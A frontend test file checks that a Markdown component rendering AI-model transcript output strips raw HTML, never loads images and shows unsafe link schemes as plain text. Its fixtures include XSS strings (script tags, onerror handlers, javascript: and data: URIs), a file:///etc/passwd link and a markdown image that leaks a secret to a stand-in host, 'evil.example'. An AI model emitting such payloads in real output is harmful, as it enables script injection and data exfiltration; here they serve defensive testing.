import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from '../../../../../renderer/src/components/transcript/Markdown';

describe('markdown from the model', () => {
  afterEach(() => vi.restoreAllMocks());

  it('renders no raw HTML: no element from it reaches the page', () => {
    const { container } = render(
      <Markdown
        text={
          'Hello <script>alert(1)</script> <img src="https://evil.example/x.png" onerror="alert(2)">\n\n<iframe src="https://evil.example"></iframe>\n\n<b>bold?</b> <a href="https://evil.example">html link</a>'
        }
      />,
    );
    for (const tag of ['script', 'img', 'iframe', 'b', 'a']) expect(container.querySelector(tag)).toBeNull();
    expect(container).toHaveTextContent('Hello');
  });

  it('never loads an image: it shows the URL as text', () => {
    const { container } = render(<Markdown text={'See ![the chart](https://evil.example/leak?secret=42)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('[image: the chart: https://evil.example/leak?secret=42]')).toBeInTheDocument();
  });

  it('opens an https link only on a click, outside the app', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => null);
    render(<Markdown text={'Read [the docs](https://example.com/docs).'} />);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(open).not.toHaveBeenCalled();
    await userEvent.click(link);
    expect(open).toHaveBeenCalledWith('https://example.com/docs', '_blank', 'noopener,noreferrer');
  });

  it.each([
    'javascript:alert(1)',
    'http://example.com/plain',
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'vscode://open',
  ])('shows a %s link as plain text, not a link', (href) => {
    const { container } = render(<Markdown text={`[click me](${href})`} />);
    expect(container.querySelector('a')).toBeNull();
    expect(screen.queryByRole('link')).toBeNull();
    expect(container).toHaveTextContent('click me');
  });

  it('renders GitHub-flavoured tables and lists', () => {
    const { container } = render(<Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done'} />);
    expect(container.querySelector('table')).not.toBeNull();
    expect(screen.getByRole('checkbox')).toBeChecked();
  });

  it('highlights a code block from tokens, keeping markup in the code as text', async () => {
    const code = 'const x = "<script>alert(1)</script>";';
    const { container } = render(<Markdown text={'```ts\n' + code + '\n```'} />);
    expect(container.querySelector('pre')).toHaveTextContent(code);
    await waitFor(() => expect(container.querySelector('.hljs-keyword')).not.toBeNull(), { timeout: 10_000 });
    expect(container.querySelector('.hljs-keyword')).toHaveTextContent('const');
    expect(container.querySelector('pre')?.textContent).toBe(code);
    expect(container.querySelector('script')).toBeNull();
  });
});
